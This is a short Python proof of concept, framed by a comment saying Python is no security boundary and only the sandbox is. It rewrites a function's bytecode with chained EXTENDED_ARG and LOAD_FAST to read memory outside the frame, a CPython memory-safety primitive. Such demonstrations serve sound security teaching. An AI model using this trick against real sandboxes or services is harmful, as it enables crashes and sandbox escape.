# Python is no boundary: a few lines reach memory that is none of theirs. The sandbox is.
import opcode

def run():
    codes = opcode.opmap

    def victim():
        return None

    far = [codes["EXTENDED_ARG"], 255, codes["EXTENDED_ARG"], 255, codes["LOAD_FAST"], 255]
    victim.__code__ = victim.__code__.replace(co_code=bytes([codes["RESUME"], 0, *far, codes["RETURN_VALUE"], 0]))
    return victim()
